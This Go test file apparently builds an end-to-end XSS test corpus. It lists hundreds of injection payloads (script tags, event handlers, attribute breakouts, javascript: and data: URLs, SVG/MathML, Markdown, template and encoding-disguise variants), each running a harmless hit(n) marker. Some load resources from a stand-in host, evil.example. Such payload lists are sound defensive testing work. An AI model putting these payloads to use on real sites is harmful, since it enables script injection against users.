package e2e

import (
	"fmt"
	"slices"
	"strings"
)

// attackKind is a way in which a text could come to run as a script. In each
// string § stands for the script that would run.
type attackKind struct {
	name    string
	strings []string
}

// attacks are all strings, the script of each being hit with its number.
func attacks() []string {
	var list []string
	for _, k := range attackKinds() {
		for _, s := range k.strings {
			list = append(list, strings.ReplaceAll(s, "§", fmt.Sprintf("hit(%d)", len(list))))
		}
	}
	return list
}

func attackKinds() []attackKind {
	return []attackKind{
		{"element", elementAttacks()}, {"event", eventAttacks()}, {"attribute", attributeAttacks()}, {"address", addressAttacks()},
		{"drawing", drawingAttacks()}, {"Markdown", markdownAttacks()}, {"source", sourceAttacks()}, {"script", scriptAttacks()}, {"template", templateAttacks()},
		{"disguise", disguiseAttacks()},
	}
}

// elementAttacks end what they stand in and begin an element of their own.
func elementAttacks() []string {
	list := []string{
		`<script>§</script>`, `<SCRIPT>§</SCRIPT>`, `<script type="module">§</script>`, `<script/x>§</script/x>`, `<script
>§</script >`, `<scr<script>ipt>§</scr</script>ipt>`, `<script src="data:text/javascript,§"></script>`, `<script src=//evil.example/a.js></script>`,
		`<noscript><p title="</noscript><script>§</script>">`, `<!--><script>§</script>-->`, `<!--!><script>§</script>`, `<![CDATA[<script>§</script>]]>`, `<?x <script>§</script> ?>`,
		`<iframe src="javascript:§"></iframe>`, `<iframe srcdoc="<script>parent.§</script>"></iframe>`, `<object data="javascript:§"></object>`, `<embed src="javascript:§">`,
		`<base href="//evil.example/">`, `<meta http-equiv="refresh" content="0;url=javascript:§">`, `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
		`<link rel="stylesheet" href="//evil.example/a.css">`, `<link rel="import" href="//evil.example/a.html">`, `<style>@import "//evil.example/a.css";</style>`, `<style>*{background:url("javascript:§")}</style>`,
		`<form action="javascript:§"><button>go</button></form>`, `<form id=f></form><button form=f formaction="javascript:§">go</button>`, `<isindex action="javascript:§" type=image>`,
		`<template><script>§</script></template>`, `<template shadowrootmode="open"><script>§</script></template>`, `<frameset onload="§">`, `<portal src="javascript:§">`,
	}
	for _, end := range []string{"title", "textarea", "style", "script", "noscript", "select", "xmp", "template", "svg", "math", "button", "details", "table"} {
		list = append(list, "</"+end+"><script>§</script>")
	}
	return list
}

// eventAttacks are elements that act by themselves or when they are touched.
func eventAttacks() []string {
	var list []string
	for _, x := range [][2]string{
		{"img src=x", "error"}, {"img src=x", "ERROR"}, {"image src=x", "error"}, {"video src=x", "error"}, {"audio src=x", "error"}, {"video><source src=x", "error"}, {"link rel=stylesheet href=x", "error"},
		{"body", "load"}, {"body", "pageshow"}, {"body", "hashchange"}, {"svg", "load"}, {"svg/", "load"}, {"iframe", "load"}, {"style", "load"}, {"object data=x", "error"}, {"script src=x", "error"},
		{"input autofocus", "focus"}, {"select autofocus", "focus"}, {"textarea autofocus", "focus"}, {"button autofocus", "focus"}, {"a href=# autofocus", "focus"}, {"p tabindex=1 autofocus", "focus"}, {"p contenteditable autofocus", "focus"},
		{"details open", "toggle"}, {"marquee", "start"}, {"div style=animation:x", "animationstart"}, {"p style=transition:1s", "transitionend"}, {"b", "mouseover"}, {"b", "pointerenter"}, {"b", "click"},
		{"dialog open", "close"}, {"p hidden=until-found", "beforematch"}, {"div popover id=pop", "beforetoggle"}, {"input type=image src=x", "error"}, {"math", "wheel"}, {"div", "scrollend"},
	} {
		list = append(list, "<"+x[0]+" on"+x[1]+"=§>")
	}
	return append(list, `<img src=x onerror="§">`, `<img src=x onerror='§'>`, "<img src=x onerror=`§`>", `<img/src=x/onerror=§>`, `<img src="x"onerror="§">`, "<img\tsrc=x\tonerror=§>", "<img\nsrc=x\nonerror\n=\n§>", `<<img src=x onerror=§>`, `<img src=x onerror=§//`, `<img src=x onerror=§ <p>`, `<x onclick=§>`, `<x-y onload=§>`)
}

// attributeAttacks end an attribute's value and add one of their own.
func attributeAttacks() []string {
	var list []string
	for _, quote := range []string{`"`, `'`, "`", "", `&quot;`, `&#34;`, `\"`, `"/`, `'/`, `">`, `'>`} {
		list = append(list, quote+` onmouseover=§ `, quote+` autofocus onfocus=§ x=`+quote, quote+` style=animation:x onanimationstart=§ `)
	}
	return append(list, `" onload="§`, `' onload='§`, `" srcdoc="<script>§</script>`, `" href="javascript:§`, `x" data-resolve="" data-addresses="{&quot;a&quot;:&quot;javascript:§&quot;}`, `" formaction="javascript:§`)
}

// addressAttacks are addresses that run a script.
func addressAttacks() []string {
	list := []string{
		"javascript:§", "JaVaScRiPt:§", " javascript:§", "java\tscript:§", "java\nscript:§", "javascript\t:§", "javascript://%0a§", "javascript:/*x*/§", "javascript:void(§)", "javascript:'<script>§</script>'",
		"view-source:javascript:§", "vbscript:§", "livescript:§", "data:text/html,<script>§</script>", "data:text/html;base64,PHNjcmlwdD5oaXQoMCk8L3NjcmlwdD4=", "data:image/svg+xml,<svg onload=§>", "blob:javascript:§",
		"&#106;avascript:§", "&#x6A;avascript:§", "java&Tab;script:§", "java&NewLine;script:§", "javascript&colon;§", "%6Aavascript:§", "feed:javascript:§", "jar:javascript:§", "//evil.example/§", `\\evil.example\§`, "https:javascript:§", "mailto:a@b.example?body=<script>§</script>",
	}
	return append(list, `<a href="javascript:§">x</a>`, `<a href=" &#14; javascript:§">x</a>`, `<area href="javascript:§">`, `<a href="#" ping="javascript:§">x</a>`, `<a target=_blank href="data:text/html,<script>§</script>">x</a>`)
}

// drawingAttacks are SVG and MathML.
func drawingAttacks() []string {
	return []string{
		`<svg><script>§</script></svg>`, `<svg><script href="data:,§"/></svg>`, `<svg><script xlink:href="data:,§"/></svg>`, `<svg><a xlink:href="javascript:§"><text>x</text></a></svg>`, `<svg><a href="javascript:§"><rect width=9 height=9 /></a></svg>`,
		`<svg><animate onbegin=§ attributeName=x dur=1s>`, `<svg><set onbegin=§ attributeName=x>`, `<svg><animate attributeName=href values="javascript:§"/><a><text>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=§>#x"/></svg>`,
		`<svg><foreignObject><img src=x onerror=§></foreignObject></svg>`, `<svg><title><img src=x onerror=§></title></svg>`, `<svg><desc><script>§</script></desc></svg>`, `<svg><style><img src=x onerror=§></style></svg>`, `<svg><image href=x onerror=§>`, `<svg><handler type="text/javascript">§</handler></svg>`,
		`<math><mtext><img src=x onerror=§></mtext></math>`, `<math href="javascript:§">x</math>`, `<math><mi xlink:href="javascript:§">x</mi></math>`, `<math><annotation-xml encoding="text/html"><script>§</script></annotation-xml></math>`, `<math><maction actiontype="statusline#javascript:§">x</maction></math>`,
		`</text></svg><script>§</script>`, `"/><script>§</script><rect x="`,
	}
}

// markdownAttacks are Markdown that makes links, pictures and HTML. Links to
// scripts are refused in pages, so they stand in other texts alone.
func markdownAttacks() []string {
	return []string{
		`[x](javascript:§)`, `[x](<javascript:§>)`, `[x](JAVASCRIPT:§ "t")`, `![x](javascript:§)`, `![x" onerror="§](x)`, `![x](x" onerror="§)`, `[x](x "t" onclick=§)`, `[x](x '" onclick="§')`, `<javascript:§>`, "[x]: javascript:§", "`<script>§</script>`",
		"``` <script>§</script>", "```\"><script>§</script>", `**<script>§</script>**`, `| <script>§</script> | x |`, `# <script>§</script>`, `> <img src=x onerror=§>`, `- <svg onload=§>`, `[<img src=x onerror=§>](x)`, `{#x onclick=§}`, `[^<script>§</script>]`, `\<script>§\</script>`, `<https://x.example/"onclick="§>`, `&lt;script&gt;§&lt;/script&gt;`,
	}
}

// sourceAttacks are TOML and front matter within a text.
func sourceAttacks() []string {
	return []string{
		`"""§"""`, `'''§'''`, `"] = "§`, `" } <script>§</script> { x = "`, `+++<script>§</script>+++`, `--- title: <script>§</script>`, `[findings."<script>§</script>"]`, `"<script>§</script>" = {}`, `; # <script>§</script>`, `\u003cscript\u003e§\u003c/script\u003e`, `\x3cscript>§</script>`,
		`../../<script>§</script>.toml`, `..\..\<img src=x onerror=§>`, `"><svg onload=§>.html`, `file:///<script>§</script>`, `C:\<script>§</script>`,
	}
}

// scriptAttacks end a string or object of a script, such as the search data.
func scriptAttacks() []string {
	return []string{
		`";§;"`, `';§;'`, "`;§;`", `"});§;({"`, `"]);§;(["`, `\";§;//`, `\';§;//`, `${§}`, "`${§}`", `</script><script>§`, `*/§/*`, "//\n§", "\u2028§", "\u2029§", `--> §`, `<!-- <script> §`, `"+§+"`, `'-§-'`, `"-§-"`, `__proto__`, `constructor.constructor("§")()`, `{"toString":"§"}`, `[]["filter"]["constructor"]("§")()`, `!$mingdeng.search.put("zh-CN",§)`,
	}
}

// templateAttacks are what template languages would evaluate, and what search
// highlights or fills into sentences.
func templateAttacks() []string {
	return []string{
		`{{§}}`, `{{.}}`, `{{template "page" .}}`, `{{printf "%s" "<script>§</script>"}}`, `{{end}}<script>§</script>`, `<% § %>`, `<?= § ?>`, `#{§}`, `{typed}<script>§</script>`, `{n}`, `{unit}<img src=x onerror=§>`, `%s<script>§</script>%!`, `<mark><script>§</script></mark>`, `</mark><script>§</script>`, `$&<script>§</script>$1`, `{{constructor.constructor("§")()}}`,
	}
}

// disguiseAttacks hide what they are from a careless reader of bytes.
func disguiseAttacks() []string {
	return []string{
		`＜script＞§＜/script＞`, `﹤img src=x onerror=§﹥`, `+ADw-script+AD4-§+ADw-/script+AD4-`, `%3Cscript%3E§%3C/script%3E`, `%253Cscript%253E§%253C/script%253E`, `&#60;script&#62;§&#60;/script&#62;`, `&#x3c;script&#x3e;§`, `&lt;img src=x onerror=§&gt;`, `<ſcript>§</ſcript>`, `<scrıpt>§</scrıpt>`,
		"<scr\u200bipt>§</scr\u200bipt>", "<img src=x on\u00aderror=§>", "\u202e<script>§</script>\u202c", "\ufeff<script>§</script>", "<\u00a0script>§</script>", `¼script¾§¼/script¾`, `<img src=x onerror=&#104;&#105;&#116;(1)>`, `<img src=x onerror=\u0068it(1)>`, `＂ onmouseover=§ x=＂`, `ʺ onfocus=§ autofocus x=ʺ`,
	}
}

// volley is all attacks in one text, beginning at another one for each n, so
// that none is always in the shade of the one before.
func volley(n int) string {
	list := attacks()
	n %= len(list)
	return strings.Join(slices.Concat(list[n:], list[:n]), " ")
}
